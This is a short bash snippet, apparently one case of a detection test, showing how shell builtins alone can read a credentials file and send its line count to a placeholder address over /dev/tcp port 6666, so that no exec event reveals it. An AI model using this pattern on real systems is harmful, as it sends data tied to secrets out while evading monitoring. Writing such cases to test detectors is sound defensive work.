# (d) Builtins only: reads the token file, connects and sends its number of
# lines. No program is started, so no exec event tells of it.
# shellcheck shell=bash
mapfile -t rows <"$SCENE_CREDENTIALS"
exec 4>"/dev/tcp/$SCENE_ADDRESS/6666"
echo "${#rows[@]} rows" >&4
exec 4>&-
unset rows
